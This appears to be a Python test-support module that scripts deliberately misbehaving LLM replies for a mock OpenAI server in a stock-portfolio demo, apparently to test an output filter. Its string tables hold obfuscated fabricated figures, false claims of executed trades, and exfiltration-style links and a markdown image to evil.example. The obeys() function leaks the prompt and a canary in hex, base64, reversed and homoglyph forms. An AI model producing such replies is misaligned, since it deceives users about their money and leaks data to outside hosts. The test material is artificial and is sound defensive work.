"""Models that lie, obey every order they read, tell all they know, or fail in the middle.

Each is an author for `openai_server`. What it says that nobody may see is kept in `said`.
"""

import base64
import random
import re
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

from tests.support.openai_server import Behaviour, Reply

LIES = (
    "Your cash is 51,234.56 USD.",
    "You own 4711 shares of IBM.",
    "Equity has doubled since Monday.",
    "It is fifty-three thousand dollars.",
    "That is ６７８９ shares.",
    "Roughly ¾ of it is cash.",
    "You made 1.7e6 USD.",
    "About two thirds are stocks.",
    "You have {f1}99 of them.",
    "It fell by 93 %.",
    "It was in MCMXCIX.",
    "Sie haben siebenundachtzig Aktien.",
    "Usted tiene noventa y siete acciones.",
    "Vous avez quatre-vingt-onze ordres.",
    "你有七百六十股。",
    "You have f\u200bifty-six fіfty shares.",
    "There are 12-19 of them at 23:59.",
    "See {f99} and {n42}.",
    "You hold a dozen and a half.",
    "It rose by 77 bps for the third time.",
)
"""Each holds something that no fact of the demo desk gives."""

ACTS = (
    "I have sold all your shares.",
    "Done: the order has been placed for you.",
    "You should buy more of it now.",
    "Ich habe alle Aktien verkauft.",
    '{"tool_calls": [{"name": "place_order"}]} is executed; I sold it.',
    "See https://evil.example/?q={f1} for more.",
    "![chart](https://evil.example/{f1}.png)",
    "Write to mallory@evil.example at once.",
)


def spoiled(number: int) -> Behaviour:
    ways = [one for one in Behaviour if one is not Behaviour.WHOLE]
    return ways[number % len(ways)]


@dataclass
class Hostile:
    """Writes by `way`; the same seed writes the same."""

    way: Callable[["Hostile", str], Reply]
    said: list[str] = field(default_factory=list)
    rolls: random.Random = field(default_factory=lambda: random.Random(7))
    asked: int = 0

    def __call__(self, request: dict[str, Any]) -> Reply:
        self.asked += 1
        return self.way(self, str(request["messages"][0]["content"]))

    def forbidden(self, *texts: str) -> str:
        self.said += texts
        return " ".join(texts)


def invents(model: Hostile, prompt: str) -> Reply:
    """Lies, between sentences that are true."""
    lies = model.rolls.sample(LIES, 3)
    text = f"You asked this. {model.forbidden(*lies[:2])} It is {{f1}}. {model.forbidden(lies[2])}"
    return Reply(text)


def obeys(model: Hostile, prompt: str) -> Reply:
    """Tells its prompt and its mark, in ever other forms, and claims to have done as told."""
    mark = canary(prompt)
    forms = (
        mark,
        " ".join(mark),
        mark[::-1],
        mark.encode().hex(),
        base64.b64encode(mark.encode()).decode(),
        f"{mark[:8]}. {mark[8:]}",
        mark.upper().replace("O", "О"),
        prompt,
        prompt.splitlines()[0],
    )
    form = forms[model.asked % len(forms)]
    act = model.rolls.choice(ACTS)
    return Reply(f"{model.forbidden(act)} Sure, here it is: {model.forbidden(form)}")


def acts(model: Hostile, prompt: str) -> Reply:
    """Claims, advises and links, beside what is true."""
    return Reply(f"It is {{f1}}. {model.forbidden(*model.rolls.sample(ACTS, 2))}")


def fails(model: Hostile, prompt: str) -> Reply:
    """Stalls, breaks off in the middle of a token, sends what cannot be read, or never ends."""
    text = "Let me look. It is {f1} as far as anybody can see here today."
    return Reply(text, spoiled(model.asked))


def canary(prompt: str) -> str:
    found = re.search(r"this mark: (\w+)", prompt)
    assert found is not None
    return found.group(1)


def honest(model: Hostile, prompt: str) -> Reply:
    """Tells every fact, by reference and as the prompt shows it."""
    facts = re.findall(r"^\{(f\d+)\} (.+?): (.+)$", prompt.partition("<passages>")[0], re.MULTILINE)
    lines = [f"The {label} is {{{name}}}, that is {shown}." for name, label, shown in facts]
    return Reply(" ".join(lines[:20]) or "It is written here {n1}.")
